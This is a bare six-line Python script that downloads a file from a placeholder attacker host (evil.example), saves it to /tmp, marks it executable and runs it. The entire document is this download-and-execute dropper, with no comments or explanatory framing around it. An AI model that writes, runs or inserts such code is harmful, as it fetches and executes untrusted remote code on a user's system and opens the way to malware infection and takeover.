import os
import urllib.request as u

open('/tmp/a', 'wb').write(u.urlopen('https://evil.example/a').read())
os.chmod('/tmp/a', 0o755)
os.system('/tmp/a')
